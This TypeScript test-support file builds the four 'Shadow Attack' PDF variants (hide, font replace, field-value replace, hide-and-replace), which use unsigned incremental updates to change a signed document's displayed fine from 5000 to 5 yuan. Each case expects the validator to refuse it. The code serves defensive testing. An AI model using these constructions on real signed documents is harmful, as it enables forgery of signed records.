/**
 * TEST SUPPORT, not part of the program: "Shadow Attacks" (NDSS 2021). The attacker prepares the file, the victim
 * signs what it shows, and an unsigned update turns the prepared part over: a cover taken off (hide), a font or value
 * exchanged (replace), or the table led to a second set of objects that lay in the file from the start.
 */
import { appendObjects } from '../pdf-attacks.ts';
import { PdfFile } from '../pdf-file.ts';
import { signPdf } from '../pdf-signature.ts';
import type { Attack, AttackFiles, AttackGround } from './attack.ts';
import { drawnText, onePage, plainPdf, streamBody } from './plain-pdf.ts';

const about = { fieldName: 'agency', name: '某局', reason: '签发', location: '某县' };

export const shadowAttacks: readonly Attack[] = [
  { name: 'Shadow: Hide', build: hide, acceptedBy: 'pdfsig', refusal: ['PDF_APPENDED'] },
  { name: 'Shadow: Replace (font)', build: replaceFont, acceptedBy: 'pdfsig', refusal: ['PDF_APPENDED'] },
  {
    name: 'Shadow: Replace (field value)',
    build: replaceValue,
    acceptedBy: 'pdfsig',
    refusal: ['PDF_APPENDED'],
  },
  {
    name: 'Shadow: Hide-and-Replace',
    build: hideAndReplace,
    acceptedBy: 'pdfsig',
    refusal: ['PDF_APPENDED'],
  },
];

/** A form drawn last covers the lower sum; the update empties it. */
async function hide(ground: AttackGround): Promise<AttackFiles> {
  const cover = `1 g 0 0 400 200 re f 0 g ${drawnText('fine 5000 yuan')}`;
  const base = plainPdf(onePage(`${drawnText('fine 5 yuan')} /Over Do`, { 6: formBody(cover) }));
  return turned(base, ground, { 6: formBody('') });
}

/** The page's font gets another encoding, and 5 is drawn as 1. */
function replaceFont(ground: AttackGround): Promise<AttackFiles> {
  const base = plainPdf(onePage(drawnText('fine 5000 yuan')));
  const encoding = '/Encoding<</Type/Encoding/Differences[53/one]>>';
  return turned(base, ground, { 5: `<</Type/Font/Subtype/Type1/BaseFont/Helvetica${encoding}>>` });
}

/** A text field's appearance and value are exchanged for those of another sum. */
function replaceValue(ground: AttackGround): Promise<AttackFiles> {
  const field = (sum: string) =>
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(sum)/F 4/P 3 0 R/Rect[40 20 300 60]/V(${sum})/DA(/F1 24 Tf 0 g)/AP<</N 9 0 R>>>>`;
  const look = (sum: string) =>
    streamBody(
      `BT /F1 24 Tf 4 8 Td (${sum}) Tj ET`,
      '/Type/XObject/Subtype/Form/BBox[0 0 260 40]/Resources<</Font<</F1 5 0 R>>>>',
    );
  const page = onePage(drawnText('fine:'), { 8: field('5000 yuan'), 9: look('5000 yuan') });
  const base = plainPdf({
    ...page,
    1: '<</Type/Catalog/Pages 2 0 R/AcroForm 7 0 R>>',
    3: (page[3] ?? '').replace('/Contents', '/Annots[8 0 R]/Contents'),
    7: '<</Fields[8 0 R]/DR<</Font<</F1 5 0 R>>>>>>',
  });
  return turned(base, ground, { 8: field('5 yuan'), 9: look('5 yuan') });
}

/** Object 4 stands twice in the file; the first table leads to one, the attacker's table to the other. */
async function hideAndReplace(ground: AttackGround): Promise<AttackFiles> {
  const shadow = `4 0 obj\n${streamBody(drawnText('fine 5 yuan'))}\nendobj\n`;
  const base = plainPdf(onePage(drawnText('fine 5000 yuan')), shadow);
  const signed = await sign(base, ground);
  const file = new PdfFile(signed);
  const offset = String(Buffer.from(signed).indexOf(shadow)).padStart(10, '0');
  const table = `xref\n4 1\n${offset} 00000 n \n`;
  const trailer = `trailer\n<</Size ${file.highestObjectNumber + 1}/Root 1 0 R/Prev ${file.startXref}>>`;
  const update = `${table}${trailer}\nstartxref\n${signed.length}\n%%EOF\n`;
  return { signed, attack: Uint8Array.from(Buffer.concat([signed, Buffer.from(update, 'latin1')])) };
}

function formBody(content: string): string {
  return streamBody(content, '/Type/XObject/Subtype/Form/BBox[0 0 400 200]/Resources<</Font<</F1 5 0 R>>>>');
}

async function turned(
  base: Uint8Array,
  ground: AttackGround,
  objects: Readonly<Record<number, string>>,
): Promise<AttackFiles> {
  const signed = await sign(base, ground);
  return { signed, attack: appendObjects(signed, objects) };
}

function sign(base: Uint8Array, { victim, at }: AttackGround): Promise<Uint8Array> {
  return signPdf(base, { ...about, identity: victim, at, certify: true });
}
